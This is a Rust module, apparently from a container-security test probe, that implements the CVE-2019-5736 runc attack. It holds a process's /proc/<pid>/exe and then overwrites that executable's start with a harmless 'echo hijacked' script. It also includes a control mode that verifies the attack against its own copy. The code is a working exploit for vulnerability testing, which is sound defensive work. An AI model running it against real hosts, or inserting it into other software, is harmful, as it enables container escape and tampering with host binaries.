//! `hijack-exe`: the CVE-2019-5736 attack on another process's executable.
//!
//! Holds an `O_PATH` fd of `/proc/<pid>/exe` while the target runs, waits
//! until the target no longer executes that file (it exited or executed
//! something else), then reopens the fd through `/proc/self/fd` for writing,
//! as soon as no process executes the file any more (`ETXTBSY`), and writes
//! over its start. Prints one JSON line when it holds the file and one with
//! the outcome.
//!
//! Targets: a pid; `any`, the first process other than this one and pid 1
//! to appear; or `control`, a copy of this probe at `/tmp/victim` (which
//! must be writable), run as a child: an unprotected binary, on which the
//! attack must succeed.

use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt, PermissionsExt};
use std::process::{Child, Command, ExitCode};
use std::time::{Duration, Instant};

use crate::json::Json;
use crate::{outcome, print};

/// `O_PATH` in the asm-generic numbering (x86 and arm included).
const O_PATH: i32 = 0o10_000_000;

/// How long to wait for a target to appear, and then to stop running.
const PATIENCE: Duration = Duration::from_secs(60);

/// What the attack writes over the ELF header.
const PAYLOAD: &[u8] = b"#!/bin/sh\necho hijacked\n";

pub fn hijack_exe(target: &str) -> ExitCode {
    let mut victim = None;
    let held = match target {
        "any" => wait_for(hold_any),
        "control" => match spawn_victim() {
            Ok(child) => {
                let pid = child.id();
                victim = Some(child);
                wait_for(|| hold(pid).ok().filter(|(_, exe)| link_of(exe) == VICTIM))
            }
            Err(e) => return fail(&format!("start /tmp/victim: {e}")),
        },
        pid => match pid.parse() {
            Ok(pid) => hold(pid).map_err(|e| format!("open /proc/{pid}/exe: {e}")),
            Err(_) => return fail(&format!("not a pid, \"any\" or \"control\": {pid:?}")),
        },
    };
    let (pid, exe) = match held {
        Ok(held) => held,
        Err(e) => return fail(&e),
    };
    let status = print(&Json::object([("held", pid.into()), ("exe", link_of(&exe).into())]));
    if status != ExitCode::SUCCESS {
        return status;
    }
    if let Some(mut child) = victim {
        let _ = child.kill();
        let _ = child.wait();
    }
    if !wait_until_released(pid, &exe) {
        return fail(&format!("pid {pid} still runs the file after {PATIENCE:?}"));
    }
    print(&overwrite(&exe))
}

fn fail(message: &str) -> ExitCode {
    print(&Json::object([("error", message.into())]));
    ExitCode::FAILURE
}

fn fd_of(f: &File) -> i32 {
    std::os::fd::AsRawFd::as_raw_fd(f)
}

/// What `/proc/self/fd/N` of `f` reads as.
fn link_of(f: &File) -> String {
    fs::read_link(format!("/proc/self/fd/{}", fd_of(f)))
        .map(|l| l.to_string_lossy().into_owned())
        .unwrap_or_default()
}

/// An `O_PATH` fd of the executable of `pid`.
fn hold(pid: u32) -> io::Result<(u32, File)> {
    let exe =
        OpenOptions::new().read(true).custom_flags(O_PATH).open(format!("/proc/{pid}/exe"))?;
    Ok((pid, exe))
}

/// The executable of the first process other than us and pid 1.
fn hold_any() -> Option<(u32, File)> {
    let me = std::process::id();
    fs::read_dir("/proc")
        .ok()?
        .filter_map(|e| e.ok()?.file_name().to_str()?.parse::<u32>().ok())
        .filter(|&pid| pid != me && pid != 1)
        .find_map(|pid| hold(pid).ok())
}

fn wait_for<T>(mut f: impl FnMut() -> Option<T>) -> Result<T, String> {
    let start = Instant::now();
    loop {
        if let Some(v) = f() {
            return Ok(v);
        }
        if start.elapsed() > PATIENCE {
            return Err(format!("no target process within {PATIENCE:?}"));
        }
        std::thread::sleep(Duration::from_millis(1));
    }
}

/// Waits until `pid` is gone or executes another file than `exe`.
fn wait_until_released(pid: u32, exe: &File) -> bool {
    let Ok(held) = exe.metadata() else { return false };
    wait_for(|| {
        let same = fs::metadata(format!("/proc/{pid}/exe"))
            .is_ok_and(|m| (m.dev(), m.ino()) == (held.dev(), held.ino()));
        (!same).then_some(())
    })
    .is_ok()
}

/// Reopens `exe` for writing and writes [`PAYLOAD`] over its start. While
/// some process still executes the file, opening it fails with `ETXTBSY`:
/// like the published exploits, keep trying until they are all gone.
fn overwrite(exe: &File) -> Json {
    const ETXTBSY: i32 = 26;
    let path = format!("/proc/self/fd/{}", fd_of(exe));
    let start = Instant::now();
    let opened = loop {
        match OpenOptions::new().write(true).open(&path) {
            Err(e) if e.raw_os_error() == Some(ETXTBSY) && start.elapsed() < PATIENCE => {
                std::thread::sleep(Duration::from_millis(1));
            }
            other => break other,
        }
    };
    let written = opened.as_ref().ok().map(|f| (&*f).write_all(PAYLOAD));
    let [open_ok, open_errno, open_error] = outcome(&opened);
    let write = written.as_ref().map_or(Json::Null, |w| Json::object(outcome(w)));
    Json::object([
        ("open", Json::object([open_ok, open_errno, open_error])),
        ("write", write),
        ("written", matches!(written, Some(Ok(()))).into()),
    ])
}

/// Where `control` copies the probe to.
const VICTIM: &str = "/tmp/victim";

/// A copy of this probe at [`VICTIM`], started as `victim sleep 60`.
fn spawn_victim() -> io::Result<Child> {
    fs::copy("/proc/self/exe", VICTIM)?;
    fs::set_permissions(VICTIM, fs::Permissions::from_mode(0o755))?;
    Command::new(VICTIM).args(["sleep", "60"]).spawn()
}
